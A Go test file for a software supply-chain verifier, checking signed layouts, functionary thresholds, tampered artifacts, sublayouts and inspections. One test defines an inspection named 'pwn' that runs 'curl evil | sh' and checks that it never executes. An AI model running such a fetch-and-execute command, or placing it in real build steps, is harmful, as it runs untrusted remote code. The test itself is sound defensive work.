package verify_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/referee-dev/referee/attest"
	"github.com/referee-dev/referee/verify"
)

func twoSteps(t *testing.T) *chain {
	c := newChain(t, "alice", "bob")
	c.step("checkout", 1, []string{"alice"}, nil, rules(t, "CREATE src/*", "DISALLOW *"))
	c.step("build", 1, []string{"bob"}, rules(t, "MATCH src/* WITH PRODUCTS FROM checkout", "DISALLOW *"), rules(t, "CREATE app", "DISALLOW *"))
	return c
}

func TestVerifyPassesAndReportsLinks(t *testing.T) {
	c := twoSteps(t)
	src := arts{"src/main.go": "package main", "src/lib/x.go": "x"}
	r, err := c.verify(c.link("checkout", "alice", nil, src), c.link("build", "bob", src, arts{"app": "binary"}))
	wantPass(t, r, err)
	if len(r.Steps) != 2 || len(r.Steps[1].Used) != 1 || r.Steps[1].Used[0].KeyIDs[0] != c.keys["bob"].Key().KeyID {
		t.Fatalf("report does not name the links used: %+v", r.Steps)
	}
}

func TestVerifyFailures(t *testing.T) {
	src := arts{"src/main.go": "package main"}
	for _, tc := range []struct {
		name  string
		links func(c *chain) []verify.Evidence
		want  []string
	}{
		{"tampered material", func(c *chain) []verify.Evidence {
			return []verify.Evidence{c.link("checkout", "alice", nil, src), c.link("build", "bob", arts{"src/main.go": "evil code"}, arts{"app": "b"})}
		}, []string{`step "build"`, `DISALLOW *`, `src/main.go`, `differs`}},
		{"missing step", func(c *chain) []verify.Evidence {
			return []verify.Evidence{c.link("checkout", "alice", nil, src)}
		}, []string{`step "build"`, "no link"}},
		{"link signed by the wrong functionary", func(c *chain) []verify.Evidence {
			return []verify.Evidence{c.link("checkout", "alice", nil, src), c.link("build", "alice", src, arts{"app": "b"})}
		}, []string{`step "build"`, "not signed by a functionary"}},
		{"unexpected product", func(c *chain) []verify.Evidence {
			return []verify.Evidence{c.link("checkout", "alice", nil, src), c.link("build", "bob", src, arts{"app": "b", "backdoor": "x"})}
		}, []string{`step "build"`, `"backdoor"`, "disallowed"}},
		{"signature over other bytes", func(c *chain) []verify.Evidence {
			b := c.link("build", "bob", src, arts{"app": "b"})
			b.Envelope.Payload = []byte(strings.Replace(string(b.Envelope.Payload), `"app"`, `"app2"`, 1))
			return []verify.Evidence{c.link("checkout", "alice", nil, src), b}
		}, []string{`step "build"`, "does not verify"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := twoSteps(t)
			r, err := c.verify(tc.links(c)...)
			wantFail(t, r, err, tc.want...)
		})
	}
}

func TestLayoutSignaturesAndExpiry(t *testing.T) {
	c := twoSteps(t)
	other := mustKey(t)
	ctx := context.Background()

	_, err := verify.Verify(ctx, c.layoutEvidence(other), nil, verify.Options{LayoutKeys: []*attest.Key{c.owner.Key()}})
	wantFail(t, &verify.Report{}, err, "layout", "no signature by key "+c.owner.Key().KeyID)

	// Every layout key must have signed.
	_, err = verify.Verify(ctx, c.layoutEvidence(c.owner), nil, verify.Options{LayoutKeys: []*attest.Key{c.owner.Key(), other.Key()}})
	wantFail(t, &verify.Report{}, err, other.Key().KeyID)

	// Expired.
	_, err = verify.Verify(ctx, c.layoutEvidence(), nil, verify.Options{LayoutKeys: []*attest.Key{c.owner.Key()}, Now: time.Now().Add(2 * time.Hour)})
	wantFail(t, &verify.Report{}, err, "expired")

	// No layout key is a usage error, not a verification failure.
	if _, err := verify.Verify(ctx, c.layoutEvidence(), nil, verify.Options{}); err == nil || verify.IsNotVerified(err) {
		t.Fatalf("no layout key: %v", err)
	}

	// A link offered as the layout.
	link := c.link("checkout", "alice", nil, nil)
	_, err = verify.Verify(ctx, link, nil, verify.Options{LayoutKeys: []*attest.Key{c.keys["alice"].Key()}})
	wantFail(t, &verify.Report{}, err, `"link" document, not a layout`)
}

func TestThresholdCountsDistinctKeys(t *testing.T) {
	src := arts{"a": "1"}
	newC := func(t *testing.T) *chain {
		c := newChain(t, "alice", "bob", "carol")
		c.step("review", 2, []string{"alice", "bob", "carol"}, nil, nil)
		return c
	}
	t.Run("two agreeing functionaries", func(t *testing.T) {
		c := newC(t)
		r, err := c.verify(c.link("review", "alice", nil, src), c.link("review", "bob", nil, src))
		wantPass(t, r, err)
		if len(r.Steps[0].Used) != 2 {
			t.Fatalf("used %+v", r.Steps[0].Used)
		}
	})
	t.Run("one key twice", func(t *testing.T) {
		c := newC(t)
		r, err := c.verify(c.link("review", "alice", nil, src), c.link("review", "alice", nil, src))
		wantFail(t, r, err, `step "review"`, "2 distinct", "found 1")
	})
	t.Run("two signatures by one key on one link", func(t *testing.T) {
		c := newC(t)
		ev := c.link("review", "alice", nil, src)
		sig := ev.Envelope.Signatures[0]
		ev.Envelope.Signatures = append(ev.Envelope.Signatures, sig)
		r, err := c.verify(ev)
		wantFail(t, r, err, "found 1")
	})
	t.Run("functionaries disagree", func(t *testing.T) {
		c := newC(t)
		r, err := c.verify(c.link("review", "alice", nil, src), c.link("review", "bob", nil, arts{"a": "2"}))
		wantFail(t, r, err, "recording the same artifacts")
	})
	t.Run("one key listed under two keyids is one key", func(t *testing.T) {
		c := newChain(t, "alice")
		c.step("review", 2, []string{"alice", "alice"}, nil, nil)
		if _, err := c.layout.Marshal(); err == nil || !strings.Contains(err.Error(), "threshold 2 is more than its 1 distinct") {
			t.Fatalf("layout with a key listed twice and threshold 2: %v", err)
		}
	})
}

func TestRerunsPickTheSetThatVerifies(t *testing.T) {
	c := twoSteps(t)
	src := arts{"src/main.go": "package main"}
	good := c.link("build", "bob", src, arts{"app": "b"})
	stale := c.link("build", "bob", arts{"src/main.go": "old"}, arts{"app": "old"})
	stale.Source = "stale-build"
	r, err := c.verify(c.link("checkout", "alice", nil, src), stale, good)
	wantPass(t, r, err)
	build := r.Steps[1]
	if len(build.Used) != 1 || build.Used[0].Source != good.Source || len(build.Rejected) != 1 || build.Rejected[0].Source != "stale-build" {
		t.Fatalf("build step: used %+v, rejected %+v", build.Used, build.Rejected)
	}
}

func TestInspectionsRunOnlyWhenAsked(t *testing.T) {
	c := twoSteps(t)
	c.layout.Inspect = []attest.Inspection{{Name: "check", Run: []string{"true"}, ExpectedMaterials: rules(t, "MATCH app WITH PRODUCTS FROM build", "DISALLOW *")}}
	src := arts{"src/main.go": "package main"}
	links := []verify.Evidence{c.link("checkout", "alice", nil, src), c.link("build", "bob", src, arts{"app": "b"})}
	r, err := c.verify(links...)
	wantFail(t, r, err, `inspection "check"`, "--run-inspections")

	ctx := context.Background()
	for _, tc := range []struct {
		disk arts
		pass bool
	}{{arts{"app": "b"}, true}, {arts{"app": "tampered"}, false}} {
		r, err = verify.Verify(ctx, c.layoutEvidence(), links, verify.Options{LayoutKeys: []*attest.Key{c.owner.Key()}, Inspector: diskInspector(tc.disk)})
		if tc.pass {
			wantPass(t, r, err)
		} else {
			wantFail(t, r, err, `inspection "check"`, `"app"`)
		}
	}
}

// diskInspector stands for the files an inspection finds on disk.
type diskInspector arts

func (d diskInspector) Inspect(_ context.Context, in attest.Inspection) (*attest.Link, error) {
	h := hashes(arts(d))
	return &attest.Link{Name: in.Name, Materials: h, Products: h}, nil
}

func TestSublayout(t *testing.T) {
	// The owner delegates step "build" to bob, who signs a sublayout with
	// two steps performed by carol.
	c := twoSteps(t)
	carol := mustKey(t)
	sub := newChain(t)
	sub.owner = c.keys["bob"]
	sub.keys["carol"] = carol
	sub.layout.Keys[carol.Key().KeyID] = carol.Key()
	sub.step("compile", 1, []string{"carol"}, rules(t, "ALLOW src/*"), rules(t, "CREATE obj"))
	sub.step("link", 1, []string{"carol"}, rules(t, "MATCH obj WITH PRODUCTS FROM compile"), rules(t, "CREATE app"))

	src := arts{"src/main.go": "package main"}
	subEv := sub.layoutEvidence(c.keys["bob"])
	subEv.Source, subEv.StepHint = "build.sublayout", "build"
	subEv.Sub = []verify.Evidence{sub.link("compile", "carol", src, arts{"obj": "o"}), sub.link("link", "carol", arts{"obj": "o"}, arts{"app": "b"})}
	r, err := c.verify(c.link("checkout", "alice", nil, src), subEv)
	wantPass(t, r, err)
	if r.Steps[1].Sublayout == nil || !r.Steps[1].Sublayout.Verified {
		t.Fatalf("no sublayout report: %+v", r.Steps[1])
	}

	// A broken sublayout chain fails the step, naming the inner problem.
	subEv.Sub = subEv.Sub[:1]
	r, err = c.verify(c.link("checkout", "alice", nil, src), subEv)
	wantFail(t, r, err, `step "build"`, "sublayout does not verify", `step "link"`)
}

func TestCommandMismatchWarns(t *testing.T) {
	c := newChain(t, "alice")
	c.step("s", 1, []string{"alice"}, nil, nil)
	c.layout.Steps[0].ExpectedCommand = []string{"make", "all"}
	r, err := c.verify(c.link("s", "alice", nil, nil))
	wantPass(t, r, err)
	if len(r.Warnings) != 1 || !strings.Contains(r.Warnings[0], "`make all`") {
		t.Fatalf("warnings %q", r.Warnings)
	}
}

func TestOtherStepsSayWhyNotEvaluated(t *testing.T) {
	c := twoSteps(t)
	r, err := c.verify(c.link("checkout", "alice", nil, arts{"src/a": "1"}))
	wantFail(t, r, err, `step "build"`, "no link")
	checkout := r.Steps[0]
	if checkout.NotEvaluated == "" || len(checkout.Used) != 1 || !strings.Contains(reportText(r), "step checkout: not evaluated (another step has no acceptable links)") {
		t.Fatalf("checkout: %+v\n%s", checkout, reportText(r))
	}
}

// A sublayout is signed by a functionary, not the owner: its inspections
// never run, even with an inspector, and the sublayout then fails.
func TestSublayoutInspectionsNeverRun(t *testing.T) {
	c := twoSteps(t)
	carol := mustKey(t)
	sub := newChain(t)
	sub.owner = c.keys["bob"]
	sub.keys["carol"] = carol
	sub.layout.Keys[carol.Key().KeyID] = carol.Key()
	sub.step("compile", 1, []string{"carol"}, nil, rules(t, "CREATE app"))
	sub.layout.Inspect = []attest.Inspection{{Name: "pwn", Run: []string{"sh", "-c", "curl evil | sh"}}}
	src := arts{"src/main.go": "package main"}
	subEv := sub.layoutEvidence(c.keys["bob"])
	subEv.Source, subEv.StepHint = "build.sublayout", "build"
	subEv.Sub = []verify.Evidence{sub.link("compile", "carol", src, arts{"app": "b"})}
	ran := 0
	insp := inspectorFunc(func() { ran++ })
	r, err := verify.Verify(context.Background(), c.layoutEvidence(), []verify.Evidence{c.link("checkout", "alice", nil, src), subEv}, verify.Options{LayoutKeys: []*attest.Key{c.owner.Key()}, Inspector: insp})
	wantFail(t, r, err, `step "build"`, "sublayout does not verify", "never run")
	if ran != 0 {
		t.Fatalf("a sublayout's inspection ran %d times", ran)
	}
}

type inspectorFunc func()

func (f inspectorFunc) Inspect(_ context.Context, in attest.Inspection) (*attest.Link, error) {
	f()
	return &attest.Link{Name: in.Name}, nil
}
